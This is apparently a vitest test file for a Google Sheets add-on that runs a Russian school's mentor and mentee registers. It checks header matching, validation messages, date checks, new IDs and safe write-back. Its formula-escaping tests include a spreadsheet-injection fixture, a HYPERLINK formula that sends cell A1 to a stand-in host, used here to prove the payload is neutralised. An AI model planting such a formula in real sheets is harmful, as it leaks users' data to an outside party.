import { describe, expect, it } from 'vitest';
import { isYoungSpecialist, Mentee, Mentor, Pair, ProgrammeDocument } from '../../../shared/model';
import {
  type CellValue,
  DOCUMENTS_SHEET,
  encodeCell,
  formatIssue,
  MENTEES_SHEET,
  MENTORS_SHEET,
  mapHeaderRow,
  nextId,
  PAIRS_SHEET,
  planWrite,
  readTable,
  SHEETS,
  toSheetValue,
} from '../../../shared/sheets';
import { sampleRows } from '../../helpers/sample';

/** The sample school's day (its consent dates are in September 2025). */
const TODAY = '2025-11-20';

describe('sheet dictionaries', () => {
  it('every sheet has a unique title, unique fields and no header that two columns share', () => {
    const titles = new Set(SHEETS.map((s) => s.title));
    expect(titles.size).toBe(SHEETS.length);
    for (const sheet of SHEETS) {
      const fields = sheet.columns.map((c) => c.field);
      expect(new Set(fields).size, sheet.title).toBe(fields.length);
      const headers = sheet.columns.map((c) => mapHeaderRow([c.header], sheet).columns.keys().next().value);
      expect(headers, sheet.title).toEqual(fields);
    }
  });
});

describe('reading the sample school', () => {
  it('reads the mentor bank, reporting the one bad row with its row and column', () => {
    const res = readTable(sampleRows('mentors'), MENTORS_SHEET, Mentor, { today: TODAY });
    expect(res.fatal).toBeNull();
    expect(res.rows).toHaveLength(19);
    expect(res.issues.map(formatIssue)).toEqual([
      'Строка 16, столбец «Готов взять наставляемых»: ожидается целое число, а не «два»',
    ]);
    const kuznetsov = res.rows.find((r) => r.record.id === 'NS-0002')!.record;
    expect(kuznetsov.forms).toEqual(['teacher-teacher', 'teacher-student']);
    expect(kuznetsov.subjects).toEqual(['физика', 'астрономия']);
    expect(kuznetsov.capacity).toBe(3);
    expect(kuznetsov.category).toBe('highest');
    expect(kuznetsov.consentDate).toBe('2025-09-01');
    expect(res.header?.unknown.map((u) => u.header)).toEqual(['Примечание куратора']);
  });

  it('reads the mentee bank under variant headers, with every mistake named and the rest kept', () => {
    const res = readTable(sampleRows('mentees'), MENTEES_SHEET, Mentee, { today: TODAY });
    expect(res.fatal).toBeNull();
    expect(res.issues.map(formatIssue)).toEqual([
      'Строка 17, столбец «Стаж»: ожидается число, а не «три года»',
      'Строка 19, столбец «Дата рождения»: нет такой даты: «31.02.2001»',
      'Строка 20, столбец «E-mail»: неверный адрес электронной почты «uvarova.oa@school7»',
      'Строка 26, столбец «Ф.И.О.»: не заполнено',
      'Строка 27, столбец «Ф.И.О.»: похоже на повтор строки 2: тот же e-mail. В подбор пар не идёт, пока куратор не решит: разные люди — впишите «нет» в столбец «Возможный повтор», один человек — оставьте одну строку.',
    ]);
    expect(res.issues.filter((i) => i.severity === 'warning').map((i) => i.row)).toEqual([27]);
    // 38 rows, 4 rejected, the duplicate kept with a warning.
    expect(res.rows).toHaveLength(34);
    const newRows = res.rows.filter((r) => r.newId);
    expect(newRows.map((r) => [r.row, r.record.id])).toEqual([
      [37, 'NV-0036'],
      [38, 'NV-0037'],
      [39, 'NV-0038'],
    ]);
    const lukina = res.rows.find((r) => r.row === 37)!.record;
    expect(lukina.role).toBe('student');
    expect(lukina.wantedForm).toBe('student-student');
    expect(lukina.email).toBeNull();
  });

  it('reads pairs with a group and documents', () => {
    const pairs = readTable(sampleRows('pairs'), PAIRS_SHEET, Pair, { today: TODAY });
    expect(pairs.issues).toEqual([]);
    expect(pairs.rows.map((r) => r.record.menteeIds)).toEqual([
      ['NV-0011'],
      ['NV-0012', 'NV-0022'],
      ['NV-0017'],
    ]);
    expect(pairs.rows.map((r) => r.record.status)).toEqual(['completed', 'active', 'terminated']);
    const docs = readTable(sampleRows('documents'), DOCUMENTS_SHEET, ProgrammeDocument, { today: TODAY });
    expect(docs.issues).toEqual([]);
    expect(docs.rows.map((r) => r.record.kind)).toEqual([
      'order-introduction',
      'regulation',
      'roadmap',
      'order-curator',
      'site-section',
      'order-pairs',
    ]);
  });
});

const HEADER = ['ID', 'ФИО', 'Организация', 'Стаж, лет', 'Согласие на обработку ПД', 'E-mail', 'Статус'];

describe('messy sheets', () => {
  it('matches headers regardless of order, case, ё, spaces and punctuation, and aliases', () => {
    const values: CellValue[][] = [
      ['e-mail', 'СОГЛАСИЕ', 'ф. и. о.', 'Моя заметка', 'стаж', 'id'],
      ['a@b.ru', 'да', 'Ёлкина Нина', 'своё', '3,5', 'NS-0007'],
    ];
    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
    expect(res.issues).toEqual([]);
    expect(res.rows[0]!.record).toMatchObject({
      id: 'NS-0007',
      fullName: 'Ёлкина Нина',
      experienceYears: 3.5,
      consent: true,
    });
    expect(res.header!.unknown).toEqual([{ index: 3, header: 'Моя заметка' }]);
  });

  it('a missing required column is one clear error naming it', () => {
    const res = readTable(
      [
        ['ID', 'Стаж'],
        ['NS-1', '3'],
      ],
      MENTORS_SHEET,
      Mentor,
      { today: TODAY },
    );
    expect(res.rows).toEqual([]);
    expect(res.fatal).toBe(
      'На листе «Наставники» нет обязательного столбца «ФИО». Добавьте его или запустите «Настроить листы».',
    );
  });

  it('fills blanks under merged cells from the cell above', () => {
    const values: CellValue[][] = [
      HEADER,
      ['NS-1', 'Иванов И.И.', 'Школа № 1', '', 'да', '', ''],
      ['NS-2', 'Петров П.П.', '', '', 'да', '', ''],
    ];
    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
    expect(res.rows.map((r) => r.record.organisation)).toEqual(['Школа № 1', 'Школа № 1']);
  });

  it('reports wrong types and duplicate IDs with row and column, and keeps the good rows', () => {
    const values: CellValue[][] = [
      HEADER,
      ['NS-1', 'Иванов И.И.', '', 'много', 'да', '', ''],
      ['NS-2', 'Петров П.П.', '', 5, 'может быть', '', 'в отпуске'],
      ['NS-3', 'Сидоров С.С.', '', new Date(2020, 0, 1), 'да', '', ''],
      ['NS-4', 'Орлов О.О.', '', 12, true, 'orlov@school.ru', 'активен'],
      ['NS-4', 'Орлова О.О.', '', 2, true, '', ''],
      ['', '', '', '', '', '', ''],
    ];
    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
    expect(res.issues.map(formatIssue)).toEqual([
      'Строка 2, столбец «Стаж, лет»: ожидается число, а не «много»',
      'Строка 3, столбец «Согласие на обработку ПД»: ожидается «да» или «нет», а не «может быть»',
      'Строка 3, столбец «Статус»: неизвестное значение «в отпуске»; допустимо: «Активен», «Приостановлен», «Выбыл»',
      expect.stringMatching(/^Строка 4, столбец «Стаж, лет»: ожидается число/),
      'Строка 6, столбец «ID»: ID «NS-4» уже есть в строке 5; строка пропущена',
    ]);
    expect(res.rows.map((r) => r.record.id)).toEqual(['NS-4']);
  });

  it('refuses a negative capacity through the schema with the column named', () => {
    const res = readTable(
      [
        ['ФИО', 'Готов взять наставляемых'],
        ['Иванов', -1],
      ],
      MENTORS_SHEET,
      Mentor,
      { today: TODAY },
    );
    expect(res.issues.map(formatIssue)).toEqual([
      'Строка 2, столбец «Готов взять наставляемых»: число наставляемых не может быть отрицательным',
    ]);
  });

  it('finds the header below a title line', () => {
    const values: CellValue[][] = [
      ['Банк наставников МБОУ СОШ № 7', '', ''],
      ['ФИО', 'E-mail', 'Статус'],
      ['Иванов', '', ''],
    ];
    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
    expect(res.header!.headerRow).toBe(2);
    expect(res.rows.map((r) => r.row)).toEqual([3]);
  });
});

describe('dates that cannot be right', () => {
  const values: CellValue[][] = [
    ['ФИО', 'Дата рождения', 'Стаж, лет', 'Дата согласия'],
    ['Андреева Полина', '14.03.65', 1, '01.09.25'],
    ['Борисов Максим', '14.03.2030', 1, ''],
    ['Васильева Кристина', new Date(2030, 2, 14), 1, ''],
    ['Григорьева Алина', '31.02.2001', 1, ''],
    ['Дмитриев Артём', '14.13.2001', 1, ''],
    ['Егорова Софья', '01.01.2023', 1, ''],
    ['Жукова Мария', '01.01.1901', 1, ''],
    ['Зайцев Кирилл', '05.04.2002', 1, '31.09.2025'],
  ];

  it('reads a two-digit birth year into the past, and refuses impossible dates with the row and the column', () => {
    const res = readTable(values, MENTEES_SHEET, Mentee, { today: TODAY });
    expect(res.issues.map(formatIssue)).toEqual([
      'Строка 3, столбец «Дата рождения»: дата рождения «14.03.2030» ещё не наступила; проверьте год',
      'Строка 4, столбец «Дата рождения»: дата рождения «14.03.2030» ещё не наступила; проверьте год',
      'Строка 5, столбец «Дата рождения»: нет такой даты: «31.02.2001»',
      'Строка 6, столбец «Дата рождения»: нет такой даты: «14.13.2001»',
      'Строка 7, столбец «Дата рождения»: по дате рождения «01.01.2023» человеку меньше 5 лет; проверьте год',
      'Строка 8, столбец «Дата рождения»: по дате рождения «01.01.1901» человеку больше 100 лет; проверьте год',
      'Строка 9, столбец «Дата согласия»: нет такой даты: «31.09.2025»',
    ]);
    expect(res.rows.map((r) => [r.row, r.record.birthDate, r.record.consentDate])).toEqual([
      [2, '1965-03-14', '2025-09-01'],
    ]);
    expect(isYoungSpecialist(res.rows[0]!.record, TODAY)).toBe(false);
  });
});

describe('writing back', () => {
  const values: CellValue[][] = [
    ['ФИО', 'Заметка куратора', 'ID', 'Стаж, лет', 'Моя формула', 'Статус'],
    ['Иванов И.И.', 'звонить после 15', 'NS-0001', 10, '=D2*2', 'Активен'],
    ['Петров П.П.', 'в отпуске', '', 3, '=D3*2', 'Активен'],
  ];

  it("writes the add-on's own columns only, in contiguous blocks, leaving the curator's columns alone", () => {
    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
    const petrov = res.rows.find((r) => r.row === 3)!;
    expect(petrov.newId).toBe(true);
    const plan = planWrite(values, res.header!, [{ row: 3, record: { ...petrov.record, status: 'paused' } }]);
    expect(plan.blocks).toEqual([
      { row: 3, column: 1, values: [['Петров П.П.']] },
      { row: 3, column: 3, values: [['NS-0002', 3]] },
      { row: 3, column: 6, values: [['Приостановлен']] },
    ]);
  });

  it('appends new people after the last row with a new stable ID', () => {
    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
    const plan = planWrite(values, res.header!, [
      { row: null, record: { id: 'NS-0003', fullName: 'Новая Н.Н.' } },
    ]);
    expect(plan.appended).toEqual([4]);
    expect(plan.blocks[0]).toEqual({ row: 4, column: 1, values: [['Новая Н.Н.']] });
    expect(plan.blocks[1]).toEqual({ row: 4, column: 3, values: [['NS-0003', '']] });
  });

  it('never lets user text run as a formula: the one sheet encoder', () => {
    expect(toSheetValue('=HYPERLINK("x"), норма')).toBe(`'=HYPERLINK("x"), норма`);
    expect(toSheetValue('+7 900')).toBe("'+7 900");
    expect(toSheetValue('-5 дней')).toBe("'-5 дней");
    expect(toSheetValue('@alice')).toBe("'@alice");
    expect(toSheetValue('\tвкладка')).toBe("'\tвкладка");
    expect(toSheetValue('\rстрока')).toBe("'\rстрока");
    // Sheets eats one leading apostrophe: a text that starts with one keeps it only behind a second.
    expect(toSheetValue("'цитата")).toBe("''цитата");
    expect(toSheetValue('Иванов')).toBe('Иванов');
    expect(toSheetValue('')).toBe('');
    expect(toSheetValue(null)).toBe('');
    // Numbers, booleans and dates stay typed, negative numbers included.
    expect(toSheetValue(-5)).toBe(-5);
    expect(toSheetValue(false)).toBe(false);
    const d = new Date(2025, 8, 1);
    expect(toSheetValue(d)).toBe(d);
  });

  it('a block spanning a row writes that row back neutralised', () => {
    // Row 3 was written as «'=HYPERLINK(…)» and «'+7 900…»; getValues gives the text without the apostrophe.
    const formula = '=HYPERLINK("http://x.example/?"&A1;"y")';
    const sheet: CellValue[][] = [
      ['ФИО', 'Организация', 'ID'],
      ['Иванов И.И.', 'СОШ № 7', 'NS-0001'],
      [formula, '+7 900 123-45-67', 'NS-0002'],
      ['Петров П.П.', 'СОШ № 7', 'NS-0003'],
    ];
    const res = readTable(sheet, MENTORS_SHEET, Mentor, { today: TODAY });
    const row = (n: number) => res.rows.find((r) => r.row === n)!;
    const plan = planWrite(sheet, res.header!, [
      { row: 2, record: { ...row(2).record, organisation: 'СОШ № 8' } },
      { row: 4, record: { ...row(4).record, organisation: 'СОШ № 8' } },
    ]);
    expect(plan.blocks).toEqual([
      {
        row: 2,
        column: 1,
        values: [
          ['Иванов И.И.', 'СОШ № 8', 'NS-0001'],
          [`'${formula}`, "'+7 900 123-45-67", 'NS-0002'],
          ['Петров П.П.', 'СОШ № 8', 'NS-0003'],
        ],
      },
    ]);
  });

  it('writes booleans as да/нет, enums as labels and dates as Date cells or text', () => {
    const cols = Object.fromEntries(MENTORS_SHEET.columns.map((c) => [c.field, c]));
    expect(encodeCell(true, cols.consent!)).toBe('да');
    expect(encodeCell(['teacher-teacher', 'employer-student'], cols.forms!)).toBe(
      'Учитель – учитель, Работодатель – ученик',
    );
    expect(encodeCell('2025-09-01', cols.consentDate!, { dates: 'text' })).toBe('01.09.2025');
    const d = encodeCell('2025-09-01', cols.consentDate!) as Date;
    expect([d.getFullYear(), d.getMonth(), d.getDate()]).toEqual([2025, 8, 1]);
  });
});

describe('new IDs', () => {
  it('continue after the highest, notice IDs added from outside, and never collide', () => {
    const taken = new Set(['NS-0002', 'NS-0010', 'NV-0100']);
    expect(nextId('NS', taken)).toBe('NS-0011');
    expect(nextId('NS', taken)).toBe('NS-0012');
    taken.add('NS-0040');
    expect(nextId('NS', taken)).toBe('NS-0041');
    expect(nextId('NV', taken)).toBe('NV-0101');
  });
});
